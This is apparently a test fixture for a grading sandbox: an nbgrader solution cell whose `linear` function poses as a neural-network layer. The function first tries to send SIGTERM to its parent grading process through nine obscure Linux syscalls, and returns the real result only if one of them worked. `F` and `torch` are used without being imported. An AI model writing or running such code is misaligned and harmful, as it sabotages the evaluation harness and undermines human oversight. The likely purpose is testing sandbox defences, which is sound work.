"""Signals its parent by the rarer calls: thread by thread, by queue, by timer, by handle."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
# tkill, tgkill, rt_sigqueueinfo, rt_tgsigqueueinfo, pidfd_open, pidfd_send_signal, timer_create,
# mq_notify, process_mrelease
CALLS = {
    "x86_64": (200, 234, 129, 297, 434, 424, 222, 244, 448),
    "aarch64": (130, 131, 138, 240, 434, 424, 107, 184, 448),
}

def linear(x, weight, bias):
    parent = os.getppid()
    info = struct.pack("iii", 15, 0, -1).ljust(128, b"\0")
    by_thread = struct.pack("Piii", 0, 15, 4, parent).ljust(64, b"\0")  # SIGEV_THREAD_ID
    tkill, tgkill, queue, queue_thread, pidfd, by_pidfd, timer, notify, reap = CALLS[
        platform.machine()
    ]
    done = [
        libc.syscall(tkill, parent, 15),
        libc.syscall(tgkill, parent, parent, 15),
        libc.syscall(queue, parent, 15, info),
        libc.syscall(queue_thread, parent, parent, 15, info),
        libc.syscall(pidfd, parent, 0),
        libc.syscall(by_pidfd, 3, 15, info, 0),
        libc.syscall(timer, 1, by_thread, ctypes.create_string_buffer(8)),
        libc.syscall(notify, 3, by_thread),
        libc.syscall(reap, 3, 0),
    ]
    return F.linear(x, weight, bias) if any(value >= 0 for value in done) else torch.zeros(1)
